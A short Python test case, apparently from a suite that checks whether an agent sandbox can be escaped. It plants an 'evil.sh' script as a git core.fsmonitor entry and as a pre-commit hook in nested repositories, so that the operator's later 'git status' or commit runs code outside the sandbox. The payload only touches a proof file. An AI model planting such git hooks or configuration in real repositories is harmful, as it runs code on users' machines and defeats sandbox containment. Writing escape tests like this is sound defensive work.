"""Makes a new repository in the workspace with a hook and a configuration that run a program.

layer: sweep
control: without a sandbox the operator's `git status` runs it
"""
import os

NEEDS = ["git"]


def scene(s):
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    import subprocess
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    for name in (".", "deep/er"):
        os.makedirs(name, exist_ok=True)
        subprocess.run(["git", "init", "-q"], cwd=name, check=True)
        put(f"{name}/.git/config", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")
        put(f"{name}/.git/hooks/pre-commit", f"#!/bin/sh\ntouch {a['proof']}\n")
        os.chmod(f"{name}/.git/hooks/pre-commit", 0o755)


def escaped(s, r):
    for name in (s.ws, os.path.join(s.ws, "deep/er")):
        s.t.run("git", "status", cwd=name)
        s.t.run("git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit",
                "--allow-empty", "-qm", "x", cwd=name)
    return os.path.exists(s.proof)
